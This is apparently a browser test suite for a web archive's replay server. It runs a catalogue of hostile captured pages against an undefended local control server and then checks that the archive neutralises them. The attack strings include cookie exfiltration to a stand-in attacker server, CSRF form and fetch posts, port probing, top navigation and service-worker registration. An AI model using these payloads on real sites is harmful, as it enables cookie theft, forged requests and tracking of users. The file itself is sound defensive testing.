"""What was captured attacks, in a real browser: WARCgames' five and others (XS-13, XS-14), and asks nobody (ME-04).

Each attack is first made on the same bytes served without a defence, where it has to succeed.
"""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterable, Iterator, Sequence
from contextlib import closing, contextmanager, suppress
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Page, sync_playwright

from tests.browsers import FLAGS
from tests.captured import HTML, Was, archive_of
from tests.conftest import need
from tests.figures import figure
from tests.hostile import pdf
from tests.served_releases import served, two_ports

pytestmark = pytest.mark.browser

DONE = "document.title='ran'"
STAMP = "20180126150000"
SETTLED = 1500  # milliseconds, for all pages together


@dataclass(frozen=True)
class Attack:
    """Bytes that were captured; LIVE stands for a server of the attacker's, NAME for the attack. `click` is a part."""

    name: str
    body: str
    media_type: str = HTML
    headers: tuple[tuple[str, str], ...] = ()
    status: int = 200
    click: str = ""
    harmless_alone: bool = False
    needs: str = ""

    @property
    def url(self) -> str:
        return f"https://www.dhs.gov/{self.name}"

    def told(self, text: str, live: str) -> str:
        return text.replace("LIVE", f"{live}/{self.name}").replace("NAME", self.name)


FIVE = (
    Attack("content-switch", "<p id=a>Original</p><script>document.getElementById('a').textContent='Switched';"
           f"{DONE}</script>"),
    Attack("csrf", "<form id=f action='LIVE/form' method=post><input name=a value=1></form><img src='LIVE/img'>"
           "<script>fetch('LIVE/fetch',{method:'POST',mode:'no-cors'});f.submit()</script>"),
    Attack("port-scan", "<img src='LIVE/img'><link rel=stylesheet href='LIVE/css'><iframe src='LIVE/frame'></iframe>"
           "<script>new WebSocket('LIVE/socket'.replace('http','ws'));fetch('LIVE/fetch',{mode:'no-cors'})</script>"),
    Attack("same-domain", "<script>localStorage.setItem('a','1');top.document.title='ran';"
           "new Image().src='LIVE/stolen?'+document.cookie</script>"),
    Attack("same-subdomain", f"<script>document.cookie='NAME=1;path=/';{DONE}</script>"),
)  # fmt: skip
OWN = (
    Attack("service-worker", "<script>navigator.serviceWorker.register(location.pathname+'?js')"
           ".catch(e=>0);new Image().src='LIVE/x'</script>", headers=(("Service-Worker-Allowed", "/"),)),
    Attack("opener", "<script>opener.location='LIVE/moved'</script>", needs="an opener"),
    Attack("history", f"<script>history.pushState({{}},'','/forged');history.go(-1);{DONE}</script>"),
    Attack("post-message", "<script>parent.postMessage('NAME','*');opener&&opener.postMessage('NAME','*');"
           f"{DONE}</script>"),
    Attack("form-by-hand", "<form action='LIVE/form' method=post><input name=password><button id=b>Log in</button>"
           "</form>", click="#b"),
    Attack("top-navigation", "<script>top.location='LIVE/top'</script>"),
    Attack("top-link", "<a id=b target=_top href='LIVE/top'>Go on</a>", click="#b", harmless_alone=True),
    Attack("popup", "<script>window.open('LIVE/popup')</script><a id=b target=_blank href='LIVE/popup'>More</a>",
           click="#b"),
    Attack("script-link", f"<a id=b href=\"javascript:void({DONE})\">Go on</a>", click="#b"),
    Attack("meta-refresh", "<meta http-equiv=refresh content='0;url=LIVE/refresh'>"),
    Attack("refresh-header", "<p>Wait</p>", headers=(("Refresh", "0;url=LIVE/refresh"),)),
    Attack("data-frame", "<iframe src=\"data:text/html,<img src='LIVE/img'>\"></iframe>"),
    Attack("srcdoc", "<iframe srcdoc=\"<script>new Image().src='LIVE/img'</script>\"></iframe>"),
    Attack("blob", "<script>location=URL.createObjectURL(new Blob([\"<img src='LIVE/img'>\"],{type:'text/html'}))"
           "</script>"),
    Attack("event-handler", f"<img src='data:,' onerror=\"{DONE}\"><svg onload=\"{DONE}\">"),
    Attack("base", "<base href='LIVE/'><img src=img><link rel=stylesheet href=css>"),
    Attack("media", "<video poster='LIVE/poster' src='LIVE/video' autoplay></video><audio src='LIVE/audio' autoplay>"
           "</audio><object data='LIVE/object'></object><embed src='LIVE/embed'><input type=image src='LIVE/input'>"
           "<body background='LIVE/background'>"),
    Attack("styles", "<style>@import url('LIVE/import');@font-face{font-family:x;src:url('LIVE/font')}"
           "p{font-family:x;background:url('LIVE/background')}</style><p style=\"border-image:url('LIVE/border')\">x"),
    Attack("fetched-ahead", "<link rel=prefetch href='LIVE/prefetch'><link rel=preload as=image href='LIVE/preload'>"
           "<link rel=modulepreload href='LIVE/module'><link rel=manifest href='LIVE/manifest'>"
           "<link rel=icon href='LIVE/icon'>"),
    Attack("ping", "<a id=b ping='LIVE/ping' href='#x'>Contents</a>", click="#b"),
    Attack("svg", f"<svg xmlns='http://www.w3.org/2000/svg'><script>{DONE};new Image().src='LIVE/img'</script>"
           "<image href='LIVE/image' width='9' height='9'/></svg>", "image/svg+xml"),
    Attack("xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'><head><title>a</title></head><body>"
           f"<script>{DONE}</script></body></html>", "application/xhtml+xml"),
    Attack("xml", f"<a xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{DONE}</h:script>"
           "<h:img src='LIVE/img'/></a>", "text/xml"),
    Attack("xml-stylesheet", "<?xml-stylesheet type='text/css' href='LIVE/css'?><a>x</a>", "application/xml"),
    Attack("sniffed", "<html><script>new Image().src='LIVE/img'</script></html>", ""),
    Attack("cookie-header", "<p>x</p>", headers=(("Set-Cookie", "NAME=1; Path=/"),)),
    Attack("link-header", "<p>x</p>", headers=(("Link", "<LIVE/preload>; rel=preload; as=image"),)),
    Attack("location-header", "<p>x</p>", status=302, headers=(("Location", "LIVE/away"),)),
    Attack("policy-header", "<script>new Image().src='LIVE/img'</script>",
           headers=(("Content-Security-Policy", "default-src *; script-src * 'unsafe-inline'"),
                    ("Access-Control-Allow-Origin", "*"))),
)  # fmt: skip
ATTACKS = FIVE + OWN
# Those that need nothing but to be opened.
OPENED = tuple(one for one in ATTACKS if not one.needs)
# Of these some are made each time; all by make soak.
EACH_TIME = FIVE + tuple(one for one in OPENED if one.name in {
    "service-worker", "post-message", "form-by-hand", "top-navigation", "popup", "meta-refresh", "media", "styles",
    "fetched-ahead", "svg", "cookie-header", "link-header", "location-header"})  # fmt: skip


class Live:
    """A server that notes what it is asked, and who connects: the attacker's, or the live web."""

    def __init__(self, answers: dict[str, Attack] | None = None) -> None:
        self.asked: list[str] = []
        self.connections = 0
        self.answers = answers or {}
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def setup(self) -> None:
                outer.connections += 1
                super().setup()

            def do_GET(self) -> None:
                outer.answer(self)

            do_POST = do_HEAD = do_GET  # noqa: N815

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.address = f"http://127.0.0.1:{self.server.server_port}"

    def answer(self, request: BaseHTTPRequestHandler) -> None:
        self.asked.append(request.path)
        name = request.path.partition("?")[0].rpartition("/")[2]
        attack = self.answers.get(name) if request.path.startswith("/web/") else None
        headers = [("Content-Type", "text/html")]
        body = b"<p>live</p>"
        if request.path.startswith("/frame/"):
            body = f"<iframe src='/web/{name}' width=600 height=400></iframe>".encode()
        elif attack is not None:
            live = attack.told("LIVE", self.live)[: -len(attack.name) - 1]
            body = attack.told(attack.body, live).encode()
            headers = [("Content-Type", attack.media_type)] if attack.media_type else []
            headers += [(key, attack.told(value, live)) for key, value in attack.headers]
            if request.path.endswith("?js"):
                headers = [("Content-Type", "text/javascript"), ("Service-Worker-Allowed", "/")]
                body = b"self.x=1"
        with suppress(OSError):
            request.send_response(attack.status if attack else 200)
            for key, value in [*headers, ("Content-Length", str(len(body)))]:
                request.send_header(key, value)
            request.end_headers()
            request.wfile.write(body)

    live = ""

    @contextmanager
    def running(self) -> Iterator[Live]:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        try:
            yield self
        finally:
            self.server.shutdown()
            self.server.server_close()


@pytest.fixture(scope="module")
def live() -> Iterator[Live]:
    with Live().running() as running:
        yield running


@pytest.fixture(scope="module")
def undefended(live: Live) -> Iterator[Live]:
    """Give a server of the same bytes without a defence."""
    server = Live({attack.name: attack for attack in ATTACKS})
    server.live = live.address
    with server.running() as running:
        yield running


PDF_BODY = pdf.written(pdf.lines("A report"))


@pytest.fixture(scope="module")
def site(live: Live, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str]]:
    """Give the addresses of the archive and of its captures."""
    captures = [
        Was(attack.url, body=attack.told(attack.body, live.address).encode(), media_type=attack.media_type,
            status=attack.status, headers=tuple((k, attack.told(v, live.address)) for k, v in attack.headers))
        for attack in ATTACKS
    ]  # fmt: skip
    action = PDF_BODY.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /URI /URI (%b/pdf/open) >>"
                              % live.address.encode())  # fmt: skip
    picture = b"<svg xmlns='http://www.w3.org/2000/svg' width='40' height='40'><rect width='40' height='40'/></svg>"
    captures += [
        Was("https://www.dhs.gov/pdf", body=action, media_type="application/pdf"),
        Was("https://www.dhs.gov/dir/picture.svg", body=picture, media_type="image/svg+xml"),
        Was("https://www.dhs.gov/dir/style.css", body=b"p{color:rgb(1,2,3)}", media_type="text/css"),
        Was("https://www.dhs.gov/dir/page",
            body=b"<link rel=stylesheet href=style.css><p>Text</p><img id=i src=picture.svg><img src=/root.png>"
            b"<img src='%b/leak/picture'>" % live.address.encode()),
    ]  # fmt: skip
    path = archive_of(tmp_path_factory.mktemp("attacks") / "archive", captures)
    _, port = two_ports()
    with served(path, "--replay-port", str(port)) as main:
        yield main, f"http://127.0.0.1:{port}"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=need("chromium", "chromium"), args=FLAGS)
        yield started
        started.close()


@contextmanager
def opened(browser: Browser) -> Iterator[BrowserContext]:
    with closing(browser.new_context(viewport={"width": 900, "height": 900}, accept_downloads=True)) as context:
        context.set_default_timeout(4000)
        yield context


def _visit(context: BrowserContext, address: str, attack: Attack) -> Page:
    """Open a page, listen to what it posts, and click where the attack wants a click."""
    page = context.new_page()
    page.add_init_script("addEventListener('message', () => { document.title = 'ran' })")
    with suppress(Error):  # what is to be saved isn't opened
        page.goto(address, wait_until="commit")
    if attack.click:
        with suppress(Error):
            page.wait_for_load_state("load")
            page.frames[-1].locator(attack.click).click(timeout=1000)
    return page


def _harmed(context: BrowserContext, pages: dict[str, tuple[Page, str]], live: Live, asked_before: int) -> set[str]:
    """Return the names of the attacks that had an effect: asked the live web, ran, moved the page, left something."""
    found = {path.split("/")[1] for path in live.asked[asked_before:]}
    found |= {cookie["name"] for cookie in context.cookies()}
    found |= {"service-worker" for _ in context.service_workers}
    for name, (page, address) in pages.items():
        titles = set()
        for frame in page.frames:
            with suppress(Error):
                titles.add(frame.title())
        origin = "/".join(address.split("/")[:3]) + "/"
        if "ran" in titles or not page.url.startswith((origin, "about:blank", "chrome-error:")):
            found.add(name)
    known = {page for page, _ in pages.values()}
    # A window that an attack opened has no page of ours.
    found |= {"popup" for page in context.pages if page not in known}
    return found & {attack.name for attack in ATTACKS}


def attacked(browser: Browser, attacks: Iterable[Attack], place: Callable[[Attack], str], live: Live) -> set[str]:
    """Open attacks, each at its place; return those that had an effect."""
    before, pages = len(live.asked), {}
    with opened(browser) as context:
        for attack in attacks:
            pages[attack.name] = (_visit(context, place(attack), attack), place(attack))
        next(iter(pages.values()))[0].wait_for_timeout(SETTLED)
        not_loaded = [name for name, (page, _) in pages.items() if page.url.startswith(("about:", "chrome-error:"))]
        assert len(not_loaded) < 3, f"what isn't loaded harms nobody: {not_loaded}"
        return _harmed(context, pages, live, before)


def withstood(browser: Browser, site: tuple[str, str], live: Live, undefended: Live, attacks: Sequence[Attack]) -> None:
    main, captures = site
    control = attacked(browser, attacks, lambda one: f"{undefended.address}/web/{one.name}", live)
    left = [one for one in attacks if one.name not in control]
    control |= attacked(browser, left, lambda one: f"{undefended.address}/frame/{one.name}", live) if left else set()
    missing = {one.name for one in attacks} - control
    assert not missing, f"the control: without a defence these have an effect: {missing}"

    shown = attacked(browser, attacks, lambda one: f"{captures}/web/{STAMP}/{one.url}", live)
    around = attacked(browser, attacks, lambda one: f"{main}/captures/{STAMP}/{one.url}", live)
    figure("XS-14", warcgames=len(FIVE), own=len(attacks) - len(FIVE), without_defence=len(control),
           by_itself=sorted(shown), in_the_frame=sorted(around))  # fmt: skip
    # Alone, a link that a reader clicks may lead where it says it does; in Chromium it leads nowhere.
    assert shown <= {one.name for one in attacks if one.harmless_alone}
    assert around == set()


def test_xs_14_no_attack_has_an_effect(browser: Browser, site: tuple[str, str], live: Live, undefended: Live) -> None:
    withstood(browser, site, live, undefended, EACH_TIME)


@pytest.mark.soak
def test_xs_14_all_attacks(browser: Browser, site: tuple[str, str], live: Live, undefended: Live) -> None:
    withstood(browser, site, live, undefended, OPENED)


def test_what_was_captured_is_seen_as_it_was(browser: Browser, site: tuple[str, str], live: Live) -> None:
    """The control of all this: what is shown is there, with its own style and picture from other captures."""
    main, captures = site
    before = len(live.asked)
    with opened(browser) as context:
        page = context.new_page()
        for address in (f"{captures}/web/{STAMP}/https://www.dhs.gov/dir/page",
                        f"{main}/captures/{STAMP}/https://www.dhs.gov/dir/page"):  # fmt: skip
            page.goto(address)
            frame = page.frames[-1]
            assert frame.locator("p").inner_text() == "Text"
            colour = "e => getComputedStyle(e).color"
            assert frame.locator("p").evaluate(colour) == "rgb(1, 2, 3)"
            assert frame.locator("#i").evaluate("e => e.naturalWidth") == 40
        page.goto(f"{main}/captures/{STAMP}/https://www.dhs.gov/content-switch")
        assert page.frames[-1].locator("#a").inner_text() == "Original"
    assert live.asked[before:] == []


def asked_by(browser: Browser, site: tuple[str, str], live: Live, attacks: Sequence[Attack]) -> None:
    """Count every request of captures that are shown, by the browser's own log and by who connects to the live web."""
    main, captures = site
    asked: list[str] = []
    refused: list[str] = []
    with opened(browser) as context:
        # It may still hold connections of the undefended pages.
        context.new_page().wait_for_timeout(SETTLED)
        connections = live.connections
        context.on("request", lambda request: asked.append(request.url))
        context.on("requestfailed", lambda request: refused.append(request.url))
        for attack in attacks:
            with suppress(Error):
                context.new_page().goto(f"{main}/captures/{STAMP}/{attack.url}")
        page = context.new_page()
        page.goto(f"{main}/captures/{STAMP}/https://www.dhs.gov/dir/page")
        page.wait_for_timeout(SETTLED)
    outside = [url for url in asked if not url.startswith((main, captures, "data:")) and url not in refused]
    figure("ME-04", captures=len(attacks) + 1, requests=len(asked), outside=len(outside),
           connections_to_the_live_web=live.connections - connections)  # fmt: skip
    assert outside == []
    assert live.connections == connections


def test_me_04_a_captured_page_asks_nobody_else(browser: Browser, site: tuple[str, str], live: Live) -> None:
    asked_by(browser, site, live, EACH_TIME)


@pytest.mark.soak
def test_me_04_no_captured_page_asks_anybody(browser: Browser, site: tuple[str, str], live: Live) -> None:
    asked_by(browser, site, live, OPENED)


def test_xs_13_a_pdf_is_saved_and_does_nothing(browser: Browser, site: tuple[str, str], live: Live) -> None:
    main, _ = site
    before = live.connections
    with opened(browser) as context:
        page = context.new_page()
        page.goto(f"{main}/captures/{STAMP}/https://www.dhs.gov/pdf")
        with page.expect_download() as saving:
            page.get_by_role("link", name="Save what was captured").click()
        saved = Path(saving.value.path()).read_bytes()
        assert saved.startswith(b"%PDF-")
        assert b"/pdf/open" in saved, "the control: the action is in it"
        assert saving.value.suggested_filename == "pdf"
        page.wait_for_timeout(SETTLED)
        cookies = context.cookies()
    figure("XS-13", connections=live.connections - before, cookies=len(cookies))
    assert live.connections == before
    assert cookies == []


def test_an_opener_is_out_of_reach(browser: Browser, site: tuple[str, str], undefended: Live) -> None:
    """What was captured can't move the page that opened its window; and the archive's own pages are no opener."""
    main, captures = site
    for opener, opened_at, moved in (
        (undefended.address, f"{undefended.address}/web/opener", True),
        (undefended.address, f"{captures}/web/{STAMP}/https://www.dhs.gov/opener", False),
        (f"{main}/about", f"{undefended.address}/web/opener", False),
    ):
        with opened(browser) as context:
            page = context.new_page()
            page.goto(opener)
            page.evaluate("address => { window.open(address) }", opened_at)
            page.wait_for_timeout(600)
            assert ("/opener/moved" in page.url) is moved, opened_at
